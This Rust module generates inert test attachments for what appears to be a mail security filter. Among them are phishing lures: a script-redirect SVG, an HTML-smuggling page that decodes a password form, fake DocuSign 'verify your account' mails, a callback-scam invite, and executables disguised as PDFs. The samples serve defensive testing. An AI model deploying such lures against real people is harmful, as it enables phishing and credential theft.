//! Small files of many kinds, made byte by byte. None does anything; each has the marks of its kind.

mod packed;
mod pictures;

pub use super::mail::base64;
pub use packed::{iso_with, ntfs_with, rar_4, rar_5, seven, winmail};
pub use pictures::{FORMATS, Format, Pixels, pdf_with_qr, qr, qr_as};

/// A file to attach.
#[derive(Debug, Clone)]
pub struct File {
    /// Its name.
    pub name: String,
    /// The media type that the mail claims.
    pub media_type: &'static str,
    /// What is in it.
    pub bytes: Vec<u8>,
}

/// A file by its name in `kinds/*.toml`.
#[must_use]
pub fn named(what: &str, random: &str, code: &str) -> File {
    let file = |name: &str, media_type, bytes| File { name: name.to_owned(), media_type, bytes };
    let link = format!("https://{random}.top/login");
    match what {
        "pdf" => file("document.pdf", "application/pdf", pdf(None)),
        "pdf-link" => file("document.pdf", "application/pdf", pdf(Some(&link))),
        "ics" => file("invite.ics", "text/calendar; charset=utf-8; method=REQUEST", ics("Kantina").into_bytes()),
        "ics-link" => file("invite.ics", "text/calendar; charset=utf-8; method=REQUEST", ics(&link).into_bytes()),
        "docx" => file("draft.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", office(false)),
        "docm" => file("order.docm", "application/vnd.ms-word.document.macroEnabled.12", office(true)),
        "xls-macro" => file("order.xls", "application/vnd.ms-excel", ole(&["Workbook", "_VBA_PROJECT_CUR", "VBA", "dir"])),
        "zip-encrypted" => file("invoice.zip", "application/zip", zip(&[("invoice.exe", b"0123456789abcdef", true)])),
        "lnk-in-zip" => file("scan.zip", "application/zip", zip(&[("scan.pdf.lnk", LNK, false)])),
        "exe-as-pdf" => file("scan.pdf.exe", "application/pdf", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec()),
        "iso" => file("scan.iso", "application/octet-stream", iso()),
        "vhd" => file("documents.vhd", "application/octet-stream", [b"conectix".as_slice(), &[0; 504]].concat()),
        "onenote" => file("documents.one", "application/onenote", onenote()),
        "svg" => file(
            "fax.svg",
            "image/svg+xml",
            format!("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>window.location='{link}'</script></svg>").into_bytes(),
        ),
        "smuggle" => file("message.html", "text/html", smuggle(code).into_bytes()),
        "qr" => file("code.png", "image/png", qr(&link)),
        "qr-gif" => file("code.gif", "image/gif", qr_as(&link, image::ImageFormat::Gif)),
        "qr-webp" => file("code.webp", "image/webp", qr_as(&link, image::ImageFormat::WebP)),
        "qr-pdf" => file("letter.pdf", "application/pdf", pdf_with_qr(&link, Pixels::Grey)),
        "ticket-pdf" => file("tickets.pdf", "application/pdf", pdf_with_qr(&format!("TICKET-{code}-A12"), Pixels::Bits)),
        "ticket-gif" => file("ticket.gif", "image/gif", qr_as(&format!("TICKET-{code}-A12"), image::ImageFormat::Gif)),
        "rar-exe" => file("order.rar", "application/octet-stream", rar_5(&["order.pdf.exe"], false)),
        "rar-encrypted" => file("order.rar", "application/octet-stream", rar_5(&["order.docx"], true)),
        "7z-exe" => file("order.7z", "application/x-7z-compressed", seven(&["order list.scr"], false)),
        "iso-lnk" => file("documents.iso", "application/octet-stream", iso_with(&["Documents.lnk"], true)),
        "winmail-exe" => file("winmail.dat", "application/ms-tnef", winmail(&[("INVOIC~1.EXE", Some("invoice.pdf.exe"), b"MZ\x90\0")])),
        "winmail-pdf" => file("winmail.dat", "application/ms-tnef", winmail(&[("REPORT.PDF", Some("report.pdf"), &pdf(None))])),
        "ics-alone" => file("invite.ics", "text/calendar; charset=utf-8; method=REQUEST", lunch().into_bytes()),
        "ics-call" => file("invite.ics", "text/calendar; charset=utf-8; method=REQUEST", call(code).into_bytes()),
        "eml-octet" => file("remittance.eml", "application/octet-stream", nested(&link).into_bytes()),
        "eml-ordinary" => file("FW_ menu.eml", "application/octet-stream", ordinary().into_bytes()),
        "msg-phish" => file("remittance.msg", "application/vnd.ms-outlook", outlook(&link)),
        "page-lure" => file("remittance.html", "text/html", lure(&link).into_bytes()),
        "smuggle-as-pdf" => file("message.html", "application/pdf", format!("<!-- %PDF-1.7 -->{}", smuggle(code)).into_bytes()),
        "zip-as-office" => {
            file("order.zip", "application/zip", zip(&[("[Content_Types].xml", b"<Types/>", false), ("order.js", b"x", false)]))
        }
        "eml-phish" => file("remittance.eml", "message/rfc822", nested(&link).into_bytes()),
        _ => file("note.txt", "text/plain", b"A note.\r\n".to_vec()),
    }
}

const LNK: &[u8] = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46";

fn ics(place: &str) -> String {
    format!(
        "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Meeting\r\nLOCATION:{place}\r\nDESCRIPTION:Sign in: {place}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
}

fn smuggle(code: &str) -> String {
    let inner = base64(format!("<form action=https://example.invalid/{code}><input type=password></form>").as_bytes());
    format!(
        "<html><body><script>var d=atob('{inner}');document.write(d);var b=new Blob([d]);URL.createObjectURL(b);</script></body></html>"
    )
}

fn lunch() -> String {
    "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Project meeting\r\nLOCATION:Room 4\r\nDESCRIPTION:We go through the plan for the\r\n  autumn\\, and what is left from last time.\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".to_owned()
}

fn call(code: &str) -> String {
    format!(
        "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Your subscription has been renewed\r\nDESCRIPTION:Your antivirus plan {code} has been renew\r\n ed\\nand 399.99 USD will be charged today.\\nIf you did not authorize this payment\\, call our \r\n helpline at +1 (808) 555-0123 to cancel.\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
}

fn ordinary() -> String {
    "From: Kantina <kantina@contoso-corp.com>\r\nTo: kari.nordby@contoso-corp.com\r\nSubject: Menu\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nOn Monday there is fish soup, on Tuesday pasta.\r\n".to_owned()
}

/// The same lure as a mail that Outlook saved.
fn outlook(link: &str) -> Vec<u8> {
    let wide = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    compound(&[
        ("__substg1.0_0037001F", &wide("Verify your account")),
        ("__substg1.0_0C1A001F", &wide("DocuSign")),
        ("__substg1.0_5D01001F", &wide("docs@kelmora77.net")),
        ("__substg1.0_10130102", lure(link).as_bytes()),
    ])
}

fn lure(link: &str) -> String {
    format!(
        "<html><body><p>Your account has been suspended. Verify your account within 24 hours: sign in with your email and password.</p>\
         <p><a href=\"{link}\">Review document in DocuSign</a></p></body></html>"
    )
}

fn nested(link: &str) -> String {
    format!(
        "From: DocuSign <docs@kelmora77.net>\r\nTo: kari.nordby@contoso-corp.com\r\nSubject: Verify your account\r\nMIME-Version: 1.0\r\n\
         Content-Type: text/html; charset=utf-8\r\n\r\n<p>Your account has been suspended. Verify your account within 24 hours: \
         sign in with your email and password.</p><p><a href=\"{link}\">Review document in DocuSign</a></p>\r\n"
    )
}

/// A PDF of one page, with a link if wanted.
#[must_use]
pub fn pdf(link: Option<&str>) -> Vec<u8> {
    let annotation = link.map_or_else(String::new, |link| {
        format!("/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 50] /A << /S /URI /URI ({link}) >> >>]")
    });
    format!(
        "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n\
         3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] {annotation} >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )
    .into_bytes()
}

/// An ISO 9660 image of one empty volume.
#[must_use]
pub fn iso() -> Vec<u8> {
    let mut bytes = vec![0; 0x8000];
    bytes.extend_from_slice(b"\x01CD001\x01");
    bytes.resize(0x9000, 0);
    bytes
}

fn onenote() -> Vec<u8> {
    let mut bytes = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3".to_vec();
    bytes.extend_from_slice(&[0; 64]);
    // FileDataStoreObject: an embedded file (MS-ONESTORE 2.6.13).
    bytes.extend_from_slice(b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac");
    bytes.extend_from_slice(&[0; 64]);
    bytes
}

fn office(macros: bool) -> Vec<u8> {
    let mut entries: Vec<(&str, &[u8], bool)> = vec![
        ("[Content_Types].xml", b"<Types/>", false),
        ("word/document.xml", b"<w:document/>", false),
        ("word/_rels/document.xml.rels", b"<Relationships/>", false),
    ];
    if macros {
        entries.push(("word/vbaProject.bin", b"vba", false));
    }
    zip(&entries)
}

/// A ZIP archive of stored files: name, content, whether it says that it is encrypted.
#[must_use]
pub fn zip(entries: &[(&str, &[u8], bool)]) -> Vec<u8> {
    let (mut out, mut directory) = (Vec::new(), Vec::new());
    for (name, content, encrypted) in entries {
        let offset = u32::try_from(out.len()).unwrap_or(0);
        let size = u32::try_from(content.len()).unwrap_or(0).to_le_bytes();
        let mut common = vec![20, 0, u8::from(*encrypted), 0, 0, 0, 0, 0, 0, 0];
        common.extend_from_slice(&[0; 4]);
        common.extend_from_slice(&size);
        common.extend_from_slice(&size);
        common.extend_from_slice(&u16::try_from(name.len()).unwrap_or(0).to_le_bytes());
        common.extend_from_slice(&[0; 2]);
        out.extend_from_slice(b"PK\x03\x04");
        out.extend_from_slice(&common);
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(content);
        directory.extend_from_slice(b"PK\x01\x02\x14\0");
        directory.extend_from_slice(&common);
        directory.extend_from_slice(&[0; 10]);
        directory.extend_from_slice(&offset.to_le_bytes());
        directory.extend_from_slice(name.as_bytes());
    }
    let (at, size, count) =
        (u32::try_from(out.len()).unwrap_or(0), u32::try_from(directory.len()).unwrap_or(0), u16::try_from(entries.len()).unwrap_or(0));
    out.extend_from_slice(&directory);
    out.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    out.extend_from_slice(&count.to_le_bytes());
    out.extend_from_slice(&count.to_le_bytes());
    out.extend_from_slice(&size.to_le_bytes());
    out.extend_from_slice(&at.to_le_bytes());
    out.extend_from_slice(&[0; 2]);
    out
}

/// A compound file (MS-CFB) whose directory holds these names, all empty storages beside each other.
#[must_use]
pub fn ole(names: &[&str]) -> Vec<u8> {
    let mut out = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
    out.extend_from_slice(&[0; 16]);
    for field in [0x3e_u16, 3, 0xfffe, 9, 6] {
        out.extend_from_slice(&field.to_le_bytes());
    }
    out.extend_from_slice(&[0; 6]);
    // directory sectors, FAT sectors, first directory sector, transaction, mini cutoff, first mini FAT, count, first DIFAT, count
    for field in [0_u32, 1, 1, 0, 4096, 0xffff_fffe, 0, 0xffff_fffe, 0] {
        out.extend_from_slice(&field.to_le_bytes());
    }
    out.extend_from_slice(&0_u32.to_le_bytes());
    out.resize(512, 0xff);
    let directory_sectors = (names.len() + 1).div_ceil(4);
    let mut fat = vec![0xffff_fffd_u32];
    for sector in 1..=directory_sectors {
        fat.push(if sector == directory_sectors { 0xffff_fffe } else { u32::try_from(sector).unwrap_or(0) + 1 });
    }
    for sector in fat {
        out.extend_from_slice(&sector.to_le_bytes());
    }
    out.resize(1024, 0xff);
    for (at, name) in std::iter::once(&"Root Entry").chain(names).enumerate() {
        let mut entry = name.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
        let length = u16::try_from(entry.len() + 2).unwrap_or(2);
        entry.resize(64, 0);
        entry.extend_from_slice(&length.to_le_bytes());
        entry.extend_from_slice(&[if at == 0 { 5 } else { 1 }, 1]);
        entry.extend_from_slice(&[0xff; 12]);
        entry.resize(128, 0);
        out.extend_from_slice(&entry);
    }
    out.resize(1024 + directory_sectors * 512, 0);
    out
}

/// A compound file with streams, `storage/stream` for those inside a storage. Streams are padded with spaces to a full 4,096 bytes, so that
/// all lie in ordinary sectors.
#[must_use]
pub fn compound(streams: &[(&str, &[u8])]) -> Vec<u8> {
    const LAST: u32 = 0xffff_fffe;
    const NONE: u32 = 0xffff_ffff;
    let number = |at: usize| u32::try_from(at).unwrap_or(0);
    // Entries: name, kind, first sector, size, child, right neighbour.
    let mut entries: Vec<(String, u8, u32, u32, u32, u32)> = vec![("Root Entry".to_owned(), 5, LAST, 0, NONE, NONE)];
    let (mut content, mut chains): (Vec<u8>, Vec<(usize, usize)>) = (Vec::new(), Vec::new());
    for (path, bytes) in streams {
        let (storage, name) = path.rsplit_once('/').map_or((None, *path), |(storage, name)| (Some(storage), name));
        let parent = storage.map_or(0, |storage| {
            entries.iter().position(|entry| entry.0 == storage).unwrap_or_else(|| {
                entries.push((storage.to_owned(), 1, 0, 0, NONE, NONE));
                let at = entries.len() - 1;
                link(&mut entries, 0, number(at));
                at
            })
        });
        let mut bytes = bytes.to_vec();
        let wide = name.ends_with("001F");
        while bytes.len() < 4_096 || bytes.len() % 512 != 0 {
            bytes.push(b' ');
            if wide {
                bytes.push(0);
            }
        }
        let first = content.len() / 512;
        content.extend_from_slice(&bytes);
        chains.push((first, bytes.len() / 512));
        entries.push((name.to_owned(), 2, number(first), number(bytes.len()), NONE, NONE));
        let at = entries.len() - 1;
        link(&mut entries, parent, number(at));
    }
    let directory_sectors = entries.len().div_ceil(4);
    let sectors = directory_sectors + content.len() / 512;
    let fat_sectors = (sectors + 4).div_ceil(127);
    let start = fat_sectors + directory_sectors;
    let mut fat: Vec<u32> = vec![0xffff_fffd; fat_sectors];
    fat.extend((0..directory_sectors).map(|at| if at + 1 == directory_sectors { LAST } else { number(fat_sectors + at + 1) }));
    for (first, count) in chains {
        fat.extend((0..count).map(|at| if at + 1 == count { LAST } else { number(start + first + at + 1) }));
    }
    let mut out = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
    out.extend_from_slice(&[0; 16]);
    for field in [0x3e_u16, 3, 0xfffe, 9, 6] {
        out.extend_from_slice(&field.to_le_bytes());
    }
    out.extend_from_slice(&[0; 6]);
    for field in [0, number(fat_sectors), number(fat_sectors), 0, 4_096, LAST, 0, LAST, 0] {
        out.extend_from_slice(&field.to_le_bytes());
    }
    for at in 0..fat_sectors {
        out.extend_from_slice(&number(at).to_le_bytes());
    }
    out.resize(512, 0xff);
    for sector in &fat {
        out.extend_from_slice(&sector.to_le_bytes());
    }
    out.resize(512 + fat_sectors * 512, 0xff);
    for (name, kind, first, size, child, right) in &entries {
        let mut entry = name.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
        let length = u16::try_from(entry.len() + 2).unwrap_or(2);
        entry.resize(64, 0);
        entry.extend_from_slice(&length.to_le_bytes());
        entry.extend_from_slice(&[*kind, 1]);
        for field in [NONE, *right, *child] {
            entry.extend_from_slice(&field.to_le_bytes());
        }
        entry.resize(116, 0);
        let first = if *kind == 2 { first + number(start) } else { *first };
        entry.extend_from_slice(&first.to_le_bytes());
        entry.extend_from_slice(&size.to_le_bytes());
        entry.resize(128, 0);
        out.extend_from_slice(&entry);
    }
    out.resize(512 + start * 512, 0);
    out.extend_from_slice(&content);
    out
}

/// Puts an entry first among the children of another.
fn link(entries: &mut [(String, u8, u32, u32, u32, u32)], parent: usize, child: u32) {
    let Some(old) = entries.get_mut(parent).map(|entry| std::mem::replace(&mut entry.4, child)) else { return };
    if let Some(entry) = usize::try_from(child).ok().and_then(|at| entries.get_mut(at)) {
        entry.5 = old;
    }
}
